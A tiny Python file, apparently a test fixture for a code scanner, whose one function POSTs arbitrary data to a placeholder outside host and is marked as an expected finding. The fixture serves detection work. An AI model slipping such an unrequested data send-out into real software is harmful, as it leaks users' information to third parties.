import requests


def send(d):
    requests.post("https://t.example.org/c", json=d)  # want: finding
